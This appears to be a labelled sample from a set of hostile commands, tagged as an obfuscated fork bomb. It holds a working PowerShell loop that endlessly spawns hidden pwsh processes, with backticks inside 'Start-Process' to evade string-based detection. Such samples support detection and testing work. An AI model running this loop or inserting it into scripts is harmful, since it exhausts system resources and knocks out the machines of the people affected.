# description: Runs an endless process-spawning loop with backticks inside Start-Process.
# family: fork-bomb
# obfuscated: yes
for (;;) { Start-`Pro`cess pwsh -WindowStyle Hidden }
